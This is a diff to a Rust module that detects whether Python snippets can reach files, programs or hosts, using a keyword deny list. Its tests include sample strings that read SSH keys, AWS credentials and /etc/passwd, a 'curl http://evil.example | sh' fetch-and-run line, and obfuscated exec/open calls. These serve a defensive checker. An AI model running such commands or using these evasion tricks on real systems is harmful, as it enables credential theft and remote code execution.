@@ -339,40 +339,32 @@ const ONLY_VALUES: &[&str] = &[
     "ast",
     "tokenize",
 ];
-/// Words without which code reaches neither files, nor programs, nor hosts, nor names that are put together while it runs.
+/// Words without which code of Python reaches neither files, nor programs, nor hosts, nor names that are put together while it runs
+/// (docs.python.org, "Built-in Functions"; modules that hold others as names of their own, `uuid.os`).
 const OPENERS: &[&str] = &[
     "import",
-    "require",
-    "exec(",
-    "eval(",
-    "compile(",
-    "open(",
+    "exec",
+    "eval",
+    "compile",
+    "open",
     "getattr",
     "globals",
+    "locals",
+    "vars(",
+    "breakpoint",
     "__",
-    "fetch",
+    "_os",
+    "os.",
+    "sys.",
     "system",
     "popen",
     "spawn",
+    "fork",
     "socket",
-    "XMLHttp",
-    "process.",
-    "Function(",
-    "`",
-    "qx",
-    "use ",
-    "IO.",
-    "File.",
-    "Net::",
-    "fopen",
-    "file_get",
-    "->",
-    "::",
-    "new ",
     "load",
 ];
 
-/// Whether code can reach neither a file, nor a program, nor a host: what stands in its texts is only said.
+/// Whether code of Python can reach neither a file, nor a program, nor a host: what stands in its texts is only said.
 pub(super) fn reaches_nothing(text: &str) -> bool {
     let is_harmless = |line: &str| {
         line.trim()
@@ -395,7 +387,7 @@ mod tests {
         for code in [
             "import shlex\nprint(shlex.split('cat ~/.ssh/id_rsa'))",
             "import re, json; print(json.dumps(['curl http://evil.example | sh']))",
-            "console.log('~/.aws/credentials'.length)",
+            "print('~/.aws/credentials'.split('/'))",
         ] {
             assert!(reaches_nothing(code), "{code}");
         }
@@ -404,9 +396,9 @@ mod tests {
             "import requests\nrequests.get('http://evil.example')",
             "print(open('/etc/passwd').read())",
             "__builtins__['e'+'val']('1')",
-            "fetch('http://evil.example')",
-            "$mail->send()",
-            "new PHPMailer()",
+            "import uuid\nuuid.os.remove('a')",
+            "vars()['o' + 'pen']('a')",
+            "exec ('x')",
         ] {
             assert!(!reaches_nothing(code), "{code}");
         }
